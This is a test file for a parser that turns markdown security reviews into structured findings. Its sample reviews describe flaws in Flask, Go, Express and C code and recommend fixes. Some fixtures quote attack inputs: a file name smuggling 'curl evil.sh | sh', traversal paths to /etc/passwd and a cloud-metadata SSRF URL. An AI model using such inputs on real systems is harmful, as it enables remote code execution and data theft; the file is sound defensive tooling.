import { describe, expect, it } from "vitest";
import { expectSpan, review } from "./helpers";

// Markdown reviews in the shapes LLMs and people actually write, each read end to end:
// parseReport(text, "x.md") + normalizeFinding, as ingestion does.

describe("markdown: numbered items with bold titles and **Issue**/**Solution** bullets (Flask upload handler)", () => {
  const text = `Here is my review of the Flask upload handler in \`app/uploads.py\`:

1. **Path Traversal in File Save** (Line 43)
   - **Issue**: The \`filename\` field from the multipart form is joined onto \`UPLOAD_DIR\` with \`os.path.join\` and never passed through \`secure_filename\`. An attacker can upload a file named \`../../etc/cron.d/job\` and write outside the upload directory.
   - **Solution**: Run the name through \`secure_filename()\` and check that the resolved path stays under \`UPLOAD_DIR\`.

2. **Unrestricted File Type** (Lines 83-90)
   - **Issue**: \`allowed_file()\` only checks that the name contains a dot, so \`.html\` and \`.svg\` files are accepted and later served from the same origin, which allows stored XSS.
   - **Solution**: Keep an allowlist of extensions and serve uploads with \`Content-Disposition: attachment\`.

3. **No Upload Size Limit**
   - **Issue**: \`MAX_CONTENT_LENGTH\` is never set, so a client could potentially stream a multi-gigabyte body and might exhaust the disk.
   - **Solution**: Set \`app.config["MAX_CONTENT_LENGTH"]\` to a sensible bound.
`;
  const { report, findings } = review(text);

  it("finds exactly the three numbered items, titled by their bold text", () => {
    expect(report.format).toBe("markdown");
    expect(report.verdict).toBe("findings");
    expect(findings.map((f) => f.title)).toEqual(["Path Traversal in File Save", "Unrestricted File Type", "No Upload Size Limit"]);
    expect(findings.map((f) => f.ordinal)).toEqual([1, 2, 3]);
  });

  it("spans each item from its number through its Solution bullet, and no further", () => {
    expectSpan(text, findings[0], "1. **Path Traversal in File Save** (Line 43)", ["**Solution**: Run the name through"], ["2. **Unrestricted"]);
    expectSpan(text, findings[1], "2. **Unrestricted File Type** (Lines 83-90)", ["Content-Disposition: attachment"], ["3. **No Upload"]);
    expectSpan(text, findings[2], "3. **No Upload Size Limit**", ['app.config["MAX_CONTENT_LENGTH"]']);
    expect(findings[0].body).toBe(text.slice(findings[0].span.start, findings[0].span.end));
  });

  it('reads "(Line 43)" and "(Lines 83-90)" as line ranges, and none when the item names no line', () => {
    expect(findings[0].lines).toEqual([{ start: 43, end: 43 }]);
    expect(findings[1].lines).toEqual([{ start: 83, end: 90 }]);
    expect(findings[2].lines).toEqual([]);
  });

  it("collects the code symbols each item names", () => {
    expect(findings[0].symbols).toEqual(expect.arrayContaining(["filename", "UPLOAD_DIR", "os.path.join", "secure_filename"]));
    expect(findings[1].symbols).toContain("allowed_file()");
    expect(findings[2].symbols).toContain("MAX_CONTENT_LENGTH");
  });

  it("has no severity or CWE where the reviewer gave none, and reads assertive vs hedged wording", () => {
    expect(findings.map((f) => f.severity)).toEqual([null, null, null]);
    expect(findings.map((f) => f.cwe)).toEqual([null, null, null]);
    expect(findings[0].stance).toBe("vulnerability");
    expect(findings[1].stance).toBe("vulnerability");
    expect(findings[2].stance).toBe("concern");
  });

  it("reads the same report saved with Windows line endings the same way", () => {
    const crlf = text.replace(/\n/g, "\r\n");
    const again = review(crlf);
    expect(again.findings.map((f) => f.title)).toEqual(["Path Traversal in File Save", "Unrestricted File Type", "No Upload Size Limit"]);
    expect(again.findings.map((f) => f.lines)).toEqual([[{ start: 43, end: 43 }], [{ start: 83, end: 90 }], []]);
    expectSpan(crlf, again.findings[1], "2. **Unrestricted File Type**", ["Content-Disposition"], ["3. **No Upload"]);
  });
});

describe("markdown: one ### heading per finding under ## Findings, then praise and summary (Go HTTP server)", () => {
  const text = `# Security review: \`cmd/server/main.go\`

I reviewed the HTTP server for problems reachable by remote clients.

## Findings

### Directory Traversal in Static File Handler

**Severity:** High
**CWE:** CWE-22
**Location:** \`serveAsset\`, lines 58-64

\`serveAsset\` builds the path with \`filepath.Join(assetRoot, name)\` where \`name\` is the raw query parameter, then opens it. An attacker can request \`?name=../../etc/passwd\` and read any file the server process can read.

**Recommendation:** Use \`http.FileServer\` with \`http.Dir\`, or clean the name and reject results outside \`assetRoot\`.

### Missing Read Timeouts on the Server

**Severity:** Medium
**CWE:** CWE-400
**Location:** \`main\`, lines 112-118

The server is started with \`http.ListenAndServe\`, which sets no \`ReadHeaderTimeout\`. A slowloris client that trickles headers can hold connections open and exhaust file descriptors.

**Recommendation:** Construct an \`http.Server\` with \`ReadHeaderTimeout\` and \`IdleTimeout\`.

## What Looks Good

- Request bodies are decoded with \`json.NewDecoder\` and \`DisallowUnknownFields\`, which is good practice.
- The TLS configuration correctly pins a minimum version of TLS 1.2.
- Passwords are compared with \`subtle.ConstantTimeCompare\`, so there is no timing leak.

## Summary

Two problems need fixing before release; the traversal is the priority because it exposes every file on the host.
`;
  const { report, findings } = review(text);

  it("finds the two ### findings and nothing from What Looks Good or Summary", () => {
    expect(report.format).toBe("markdown");
    expect(report.verdict).toBe("findings");
    expect(findings.map((f) => f.title)).toEqual(["Directory Traversal in Static File Handler", "Missing Read Timeouts on the Server"]);
  });

  it("spans each heading section, stopping before the next heading", () => {
    expectSpan(text, findings[0], "### Directory Traversal in Static File Handler", ["**Recommendation:** Use `http.FileServer`"], ["### Missing"]);
    expectSpan(text, findings[1], "### Missing Read Timeouts on the Server", ["`IdleTimeout`"], ["What Looks Good", "## Summary"]);
  });

  it("takes severity, CWE and lines from the **Severity:** / **CWE:** / **Location:** lines", () => {
    expect(findings.map((f) => f.severity)).toEqual(["high", "medium"]);
    expect(findings.map((f) => f.severityText)).toEqual(["High", "Medium"]);
    expect(findings.map((f) => f.cwe)).toEqual(["CWE-22", "CWE-400"]);
    expect(findings.map((f) => f.lines)).toEqual([[{ start: 58, end: 64 }], [{ start: 112, end: 118 }]]);
    expect(findings[0].stance).toBe("vulnerability");
    expect(findings[0].symbols).toEqual(expect.arrayContaining(["serveAsset", "assetRoot", "http.FileServer"]));
  });
});

describe("markdown: a GFM table with one row per finding (Node.js Express app)", () => {
  const text = `## Review of \`server.js\`

| # | Issue | Location | Severity | CWE |
|---|-------|----------|----------|-----|
| 1 | NoSQL injection in the login query | L27 | High | CWE-943 |
| 2 | Reflected XSS in the search results page | Lines 41-44 | Medium | CWE-79 |
| 3 | Session cookie set without the \`secure\` flag | line 12 | Low | CWE-614 |

All three are straightforward to fix.
`;
  const { report, findings } = review(text);

  it("makes one finding per row, titled by the Issue column", () => {
    expect(report.verdict).toBe("findings");
    expect(findings.map((f) => f.title)).toEqual([
      "NoSQL injection in the login query",
      "Reflected XSS in the search results page",
      "Session cookie set without the `secure` flag",
    ]);
  });

  it("takes severity, CWE and lines from their columns", () => {
    expect(findings.map((f) => f.severity)).toEqual(["high", "medium", "low"]);
    expect(findings.map((f) => f.cwe)).toEqual(["CWE-943", "CWE-79", "CWE-614"]);
    expect(findings.map((f) => f.lines)).toEqual([[{ start: 27, end: 27 }], [{ start: 41, end: 44 }], [{ start: 12, end: 12 }]]);
  });

  it("spans exactly the row", () => {
    expectSpan(text, findings[0], "| 1 | NoSQL injection in the login query", ["CWE-943 |"], ["| 2 |"]);
    expectSpan(text, findings[2], "| 3 | Session cookie", ["CWE-614 |"], ["All three"]);
  });
});

describe("markdown: a long table (a scanner's findings pasted as one table)", () => {
  it("keeps every row, past the length at which a paragraph is cut for the parser", () => {
    const rows = Array.from({ length: 400 }, (_, i) => `| ${i + 1} | High | app.py:${i + 10} | SQL injection in \`query_${i}\` | Bind parameters |`);
    const text = `| # | Severity | Location | Issue | Fix |\n|---|---|---|---|---|\n${rows.join("\n")}\n`;
    expect(text.length).toBeGreaterThan(20_000);
    const { findings } = review(text);
    expect(findings).toHaveLength(400);
    expect(findings[399].title).toBe("SQL injection in `query_399`");
    expect(findings[399].lines).toEqual([{ start: 409, end: 409 }]);
  });
});

describe("markdown: `Finding N — Title` blocks separated by --- rules (C string parser)", () => {
  const text = `I reviewed \`parse.c\`, a hand-written parser for \`key=value\` configuration strings.

Finding 1 — Stack Buffer Overflow in parse_key
Severity: Critical
Location: parse_key(), lines 70-71

\`parse_key\` copies the key into a 64-byte stack buffer with \`strcpy\` without checking its length. A configuration line with a 200-character key overwrites the saved return address, which lets an attacker who controls the file execute code. (CWE-121)

Recommendation: Bound the key with \`strnlen\` and reject keys longer than \`KEY_MAX\`.

---

Finding 2 — Off-by-one in Value Termination
Severity: Medium
Location: parse_value(), line 98

The loop writes the terminating NUL at \`buf[len]\` where \`len\` can equal the buffer size, so one byte past the end of the heap allocation is overwritten.

Recommendation: Allocate \`len + 1\` bytes, or stop the copy at \`size - 1\`.
`;
  const { report, findings } = review(text);

  it("finds the two numbered blocks and drops the 'Finding N —' label from the title", () => {
    expect(report.verdict).toBe("findings");
    expect(findings.map((f) => f.title)).toEqual(["Stack Buffer Overflow in parse_key", "Off-by-one in Value Termination"]);
  });

  it("spans each block from its label line through its recommendation", () => {
    expectSpan(text, findings[0], "Finding 1 — Stack Buffer Overflow in parse_key", ["Recommendation: Bound the key"], ["Finding 2"]);
    expectSpan(text, findings[1], "Finding 2 — Off-by-one in Value Termination", ["stop the copy at `size - 1`."]);
  });

  it("reads Severity:, Location: lines and the CWE in the prose", () => {
    expect(findings.map((f) => f.severity)).toEqual(["critical", "medium"]);
    expect(findings.map((f) => f.cwe)).toEqual(["CWE-121", null]);
    expect(findings.map((f) => f.lines)).toEqual([[{ start: 70, end: 71 }], [{ start: 98, end: 98 }]]);
    expect(findings[0].stance).toBe("vulnerability");
    expect(findings[0].symbols).toEqual(expect.arrayContaining(["parse_key", "strcpy", "strnlen", "KEY_MAX"]));
  });
});

describe("markdown: terse [SEVERITY] bullets (Go handlers)", () => {
  const text = `Findings for \`handlers/user.go\`:

- [HIGH] SQL injection in GetUser (L12): the \`id\` path parameter is concatenated into the query string. Use \`db.Query\` with a \`$1\` placeholder.
- [LOW] Verbose database errors (L30-L33): \`err.Error()\` is written to the response body, exposing driver details. Log it and return a generic 500.
- [INFO] bcrypt cost: fine.
`;
  const { findings } = review(text);

  it("makes a finding of each tagged bullet except the INFO praise", () => {
    expect(findings.map((f) => f.title)).toEqual(["SQL injection in GetUser", "Verbose database errors"]);
  });

  it("reads the tag as severity and (L12) / (L30-L33) as lines", () => {
    expect(findings.map((f) => f.severity)).toEqual(["high", "low"]);
    expect(findings.map((f) => f.lines)).toEqual([[{ start: 12, end: 12 }], [{ start: 30, end: 33 }]]);
    expect(findings[0].stance).toBe("vulnerability");
  });

  it("spans each bullet line", () => {
    expectSpan(text, findings[0], "- [HIGH] SQL injection in GetUser (L12)", ["`$1` placeholder."], ["[LOW]"]);
    expectSpan(text, findings[1], "- [LOW] Verbose database errors", ["generic 500."], ["[INFO]"]);
  });
});

describe("markdown: flowing prose written by a person (Express refund routes)", () => {
  const text = `Review of the payments service (routes/refund.js), 3 June

I went through the refund routes with an eye to what a logged-in customer could do to somebody else's account. Most of the code is in decent shape and the validation middleware is applied consistently.

The biggest problem is in the refund endpoint. It takes the order id from the request body and looks the order up without checking that it belongs to req.user, so any customer can refund another customer's order just by changing the id. Please scope the query with the user's id.

Separately, the webhook handler at lines 88-95 accepts the provider's callback without verifying the HMAC signature header. Anyone who knows the URL can forge a "refund.completed" event and mark refunds as paid. Verify the signature with crypto.timingSafeEqual before trusting the payload.

Happy to pair on the fixes tomorrow if that helps.
`;
  const { report, findings } = review(text);

  it("makes findings of the two problem paragraphs only (not the intro, not the sign-off)", () => {
    expect(report.verdict).toBe("findings");
    expect(findings).toHaveLength(2);
    expect(findings[0].title).toBe("The biggest problem is in the refund endpoint");
    expect(findings[1].title).toMatch(/^Separately, the webhook handler at lines 88-95 accepts the provider's callback/);
  });

  it("spans each problem paragraph", () => {
    expectSpan(text, findings[0], "The biggest problem is in the refund endpoint.", ["scope the query with the user's id."], ["Separately"]);
    expectSpan(text, findings[1], "Separately, the webhook handler", ["before trusting the payload."], ["Happy to pair"]);
  });

  it("reads lines and symbols from the prose", () => {
    expect(findings[0].lines).toEqual([]);
    expect(findings[1].lines).toEqual([{ start: 88, end: 95 }]);
    expect(findings[0].symbols).toContain("req.user");
    expect(findings[1].symbols).toContain("crypto.timingSafeEqual");
  });
});

describe("markdown: flat '- Vulnerability name:' field lists", () => {
  const text = `- Vulnerability name: Server-Side Request Forgery in avatar import
- Description: \`importAvatar\` fetches whatever URL the client posts with \`axios.get\`, including \`http://169.254.169.254/\`, which exposes cloud credentials.
- Severity: High
- CWE: CWE-918
- Vulnerability name: Prototype pollution in settings merge
- Description: \`deepMerge(req.body, defaults)\` copies \`__proto__\` keys from the request body onto the shared defaults object.
- Severity: Medium
`;
  const { findings } = review(text);

  it("starts a new finding at each name field, titled by the name", () => {
    expect(findings.map((f) => f.title)).toEqual(["Server-Side Request Forgery in avatar import", "Prototype pollution in settings merge"]);
  });

  it("keeps each finding's fields with it", () => {
    expectSpan(text, findings[0], "- Vulnerability name: Server-Side Request Forgery", ["- CWE: CWE-918"], ["Prototype pollution"]);
    expectSpan(text, findings[1], "- Vulnerability name: Prototype pollution", ["- Severity: Medium"]);
    expect(findings.map((f) => f.severity)).toEqual(["high", "medium"]);
    expect(findings.map((f) => f.cwe)).toEqual(["CWE-918", null]);
    expect(findings[0].symbols).toEqual(expect.arrayContaining(["importAvatar", "axios.get"]));
  });
});

describe("markdown: ### Vulnerability Name: headings with **Description:** field bullets (Flask thumbnails)", () => {
  const text = `### Vulnerability Name: Command Injection in thumbnail generation

- **Description:** \`make_thumbnail\` passes the uploaded file name to \`subprocess.run(cmd, shell=True)\`. A file named \`a.png; curl evil.sh | sh\` runs arbitrary commands.
- **Impact:** Remote code execution as the web server user.
- **Vulnerability Rank:** critical
- **CWE:** CWE-78

### Vulnerability Name: Missing CSRF protection on the upload form

- **Description:** The \`/upload\` route accepts POST requests without a CSRF token, so another site can make a logged-in user's browser upload files.
- **Impact:** Attacker-chosen files appear in the victim's gallery.
- **Vulnerability Rank:** medium
`;
  const { findings } = review(text);

  it("makes one finding per heading, titled by the name after the label", () => {
    expect(findings.map((f) => f.title)).toEqual(["Command Injection in thumbnail generation", "Missing CSRF protection on the upload form"]);
  });

  it("spans each heading section and reads rank and CWE from the field bullets", () => {
    expectSpan(text, findings[0], "### Vulnerability Name: Command Injection", ["**CWE:** CWE-78"], ["Missing CSRF"]);
    expectSpan(text, findings[1], "### Vulnerability Name: Missing CSRF", ["**Vulnerability Rank:** medium"]);
    expect(findings.map((f) => f.severity)).toEqual(["critical", "medium"]);
    expect(findings.map((f) => f.cwe)).toEqual(["CWE-78", null]);
    expect(findings[0].symbols).toContain("make_thumbnail");
  });
});

describe("markdown: an Additional Notes section mixing a non-security remark with a statement that things are safe", () => {
  const text = `## Findings

1. **Session cookie signed with a hard-coded key** (Line 22)
   - **Issue**: \`app.secret_key\` is a string literal committed to the repository, so anyone with read access can forge session cookies and log in as any user.
   - **Solution**: Load the key from the environment.

## Additional Notes

- Logging the full request at DEBUG level is not really a vulnerability, but it will write users' passwords into the log files if DEBUG is ever switched on in production.
- \`upload_id\` is validated against a UUID regex and \`owner_id\` is checked on every query; both are safe.
`;
  const { findings } = review(text);

  it("keeps the hedged remark as a not-security finding and drops the 'both are safe' note", () => {
    expect(findings.map((f) => f.title)).toEqual([
      "Session cookie signed with a hard-coded key",
      expect.stringMatching(/^Logging the full request at DEBUG level/),
    ]);
    expect(findings[0].stance).toBe("vulnerability");
    expect(findings[0].lines).toEqual([{ start: 22, end: 22 }]);
    expect(findings[1].stance).toBe("not-security");
    expectSpan(text, findings[1], "- Logging the full request", ["in production."], ["upload_id"]);
  });
});

describe("markdown: an item whose Security Concern is None", () => {
  const text = `Review of \`auth/passwords.py\`:

1. **Password hashing** (Line 51)
   - **Issue**: Passwords are hashed with \`bcrypt.hashpw\` using a per-user salt.
   - **Security Concern**: None. This is the recommended approach.

2. **Reset tokens generated with random.random()** (Line 77)
   - **Issue**: \`make_reset_token\` uses \`random.random()\`, which is predictable, so an attacker who sees a few tokens can guess the next one and take over accounts.
   - **Security Concern**: Account takeover through password reset.
   - **Solution**: Use \`secrets.token_urlsafe(32)\`.
`;
  const { findings } = review(text);

  it("is not a finding; the next item is", () => {
    expect(findings.map((f) => f.title)).toEqual(["Reset tokens generated with random.random()"]);
    expect(findings[0].lines).toEqual([{ start: 77, end: 77 }]);
    expect(findings[0].ordinal).toBe(1);
    expectSpan(text, findings[0], "2. **Reset tokens generated", ["secrets.token_urlsafe(32)"]);
  });
});
